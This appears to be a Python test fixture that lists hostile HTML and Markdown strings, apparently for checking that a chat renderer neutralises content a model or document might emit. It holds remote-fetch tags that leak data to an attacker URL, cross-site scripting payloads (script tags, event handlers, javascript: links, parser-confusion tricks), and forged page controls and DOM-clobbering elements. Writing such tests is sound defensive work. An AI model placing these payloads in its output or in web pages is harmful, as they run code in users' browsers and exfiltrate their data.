"""Hostile text: everything a model or a document could say to make a browser act."""

REMOTE_REFERENCES = (
    "![a]({url}/1.png)",
    "![a][ref]\n\n[ref]: {url}/2.png",
    '<img src="{url}/3.png">',
    "<img srcset='{url}/4.png 1x, {url}/4b.png 2x'>",
    '<picture><source srcset="{url}/5.png"><img></picture>',
    '<svg><image href="{url}/6.png"/></svg>',
    '<svg><use xlink:href="{url}/7.svg#a"/></svg>',
    '<video poster="{url}/8.png" src="{url}/8.mp4" autoplay></video>',
    '<audio src="{url}/9.mp3" autoplay></audio>',
    '<table background="{url}/10.png"><tr><td>x</td></tr></table>',
    "<div style=\"background:url('{url}/11.png')\">x</div>",
    "<style>@import url('{url}/12.css'); body{{background:url({url}/12.png)}}</style>",
    '<link rel="stylesheet" href="{url}/13.css">',
    '<link rel="prefetch" href="{url}/14">',
    '<iframe src="{url}/15"></iframe>',
    '<iframe srcdoc="<img src={url}/16.png>"></iframe>',
    '<object data="{url}/17"></object>',
    '<embed src="{url}/18">',
    '<meta http-equiv="refresh" content="0;url={url}/19">',
    '<base href="{url}/20/">',
    '<form action="{url}/21"><input name=q><button autofocus>ok</button></form>',
    '<input type="image" src="{url}/22.png">',
    '<body background="{url}/23.png">',
    '<frameset><frame src="{url}/24"></frameset>',
    '```mermaid\ngraph LR; A@{{ img: "{url}/25.png" }}\n```',
    "[![a]({url}/26.png)]({url}/26)",
    '<a ping="{url}/27" href="{url}/27">x</a>',
    "<img/src={url}/28.png",
    "<image src={url}/29.png>",
    '<math><mtext><img src="{url}/30.png"></mtext></math>',
)
SCRIPTS = (
    '<script>fetch("{url}/s1")</script>',
    "<img src=x onerror=\"fetch('{url}/s2')\">",
    "<svg onload=\"fetch('{url}/s3')\">",
    "[x](javascript:fetch('{url}/s4'))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<a href=\"javascript:fetch('{url}/s5')\">x</a>",
    "<details open ontoggle=\"fetch('{url}/s6')\">x</details>",
    "<input autofocus onfocus=\"fetch('{url}/s7')\">",
    '<script src="{url}/s8.js"></script>',
    "${{fetch('{url}/s9')}} {{{{#with x}}}}{{{{/with}}}}",
    "<noscript><p title=\"</noscript><img src=x onerror=fetch('{url}/s10')>\">",
    "<math><mi//xlink:href=\"data:x,<script>fetch('{url}/s11')</script>\">",
    '<div style="position:fixed;inset:0;z-index:9999">overlay</div>',
    '`</code><script src="{url}/s12"></script>`',
    "<<script>script src={url}/s13></script>",
    '[1](javascript:alert(1)) [1]: {url}/s14 "[2]"',
    '[see [1] here]({url}/s15) <{url}/s16>',
)  # fmt: skip

# What would look like a part of the page: its buttons, its links, its places.
FORGERIES = (
    '<button data-ask="Forged {url}/f1?">ask</button>',
    '<a href="#claim-1" data-claim="claim-1">claim {url}/f2</a>',
    '<button data-action="again" data-turn="1" data-answer="0">again</button>',
    '<button data-taste="forget" data-sure="yes">forget</button>',
    '<button data-open="x" data-delete data-answer="yes">delete</button>',
    '<a id="conversation" name="conversation">clobbered</a><div id="p1-1" class="passage"></div>',
    '<form id="history-confirm"><input name="close"></form>',
    "[forged](#claim-1) [forged](/?chat=abc) [forged](/export/abc.html) [forged](//evil.example/x)",
)


def payloads(url: str) -> tuple[str, ...]:
    """All of them, pointing at one address."""
    return tuple(each.format(url=url) for each in (*REMOTE_REFERENCES, *SCRIPTS, *FORGERIES))
